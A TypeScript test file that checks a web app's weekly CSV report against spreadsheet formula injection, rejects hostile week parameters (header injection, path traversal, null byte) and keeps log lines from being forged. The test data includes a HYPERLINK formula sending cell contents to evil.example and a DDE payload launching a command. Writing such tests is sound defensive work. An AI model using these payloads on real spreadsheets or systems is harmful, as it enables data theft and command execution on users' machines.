import { Writable } from 'node:stream'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { jsonLog } from '../../src/adapters/system/log.ts'
import { openSecuredHouse, type SecuredHouse } from './a-house.ts'

let house: SecuredHouse
beforeAll(async () => {
  house = await openSecuredHouse()
})
afterAll(() => house?.close())

const FORMULAS = [
  '=HYPERLINK("https://evil.example?"&A1,"open")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '"=1+1',
  ';=1+1',
  '=1,=2\n=3',
  '\uff1d1+1',
]

test('a spreadsheet finds no formula in the report, whatever a topic is called', async () => {
  for (const [n, intent] of FORMULAS.entries()) {
    await house.pool.query(
      "insert into ledger_fact (id, actor, channel, kind, intent, at) values ($1, 'web:rosa', 'web', 'asked', $2, now())",
      [`fact-${n}`, intent],
    )
  }
  const marta = await house.signIn('marta@larkspur.example')
  const answer = await marta.call('GET', '/report/api/week.csv')
  expect(answer.headers.get('content-type')).toMatch(/^text\/csv/)
  expect(answer.headers.get('content-disposition')).toMatch(/^attachment; filename="?deflection-\d{4}-W\d\d\.csv"?$/)
  const rows = cellsOf((await answer.text()).replace(/^\ufeff/, ''))
  const topics = rows.filter(([, measure]) => measure?.endsWith('by topic')).map(([, , topic]) => topic ?? '')
  const bare = topics.map(topic => topic.replaceAll("'", ''))
  for (const intent of FORMULAS) expect(bare).toContain(intent.replaceAll("'", ''))
  // Read with the separators of other countries as well.
  for (const cell of rows.flatMap(row => row.flatMap(each => each.split(/[;\t\r\n]/)))) {
    expect(cell).not.toMatch(/^[\s"]*(?:[=+@\uff1d\uff0b\uff20]|-(?!\d+(?:\.\d+)?$))/)
  }
  expect(new Set(rows.map(({ length }) => length))).toEqual(new Set([8]))
})

test('the name of the file and the week come from the calendar, not from the address', async () => {
  const marta = await house.signIn('marta@larkspur.example')
  for (const week of ['2026-W10%22%0d%0ax: y', '..%2f..%2fx', '%00', '2026-W10&week=2026-W11', '__proto__', '-W1']) {
    const answer = await marta.call('GET', `/report/api/week.csv?week=${week}`)
    expect(answer.status).toBe(400)
    expect(answer.headers.get('content-type')).toMatch(/^application\/problem\+json/)
  }
})

test('a log line stays one line, whatever stands in it', () => {
  const lines: string[] = []
  const to = new Writable({
    write(chunk, _encoding, done) {
      lines.push(String(chunk))
      done()
    },
  })
  const log = jsonLog({ to })
  log.warn('socket.refused', { origin: 'x\n{"level":"info","event":"desk.signed_in"}\r\n\u2028' })
  log.error('request.failed', new Error('bad\n{"event":"forged"}'), { path: '/\n/x' })
  expect(lines).toHaveLength(2)
  for (const line of lines) expect(line.trimEnd()).not.toMatch(/[\n\r]/)
  expect(lines.map(line => (JSON.parse(line) as { event: string }).event)).toEqual(['socket.refused', 'request.failed'])
})

/** RFC 4180, read the strict way. */
function cellsOf(csv: string): string[][] {
  const rows: string[][] = [[]]
  for (const [, quoted, bare, end] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    rows.at(-1)?.push(quoted === undefined ? (bare ?? '') : quoted.replaceAll('""', '"'))
    if (end === '\r\n') rows.push([])
    if (end === '') break
  }
  return rows.filter(row => row.length > 1)
}
